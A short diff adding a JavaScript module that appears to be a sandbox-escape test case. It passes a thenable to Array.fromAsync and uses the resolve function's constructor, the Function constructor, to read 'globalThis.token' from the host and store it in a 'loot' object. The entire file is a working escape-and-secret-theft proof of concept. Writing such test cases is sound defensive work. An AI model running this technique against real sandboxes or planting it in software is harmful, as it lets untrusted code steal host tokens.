@@ -1,0 +1,3 @@
+module.exports = (victim, loot) => {
+  Array.fromAsync([{ then(resolve) { try { loot.value = resolve.constructor('return globalThis.token')(); } catch (error) { loot.error = error; } } }]);
+};
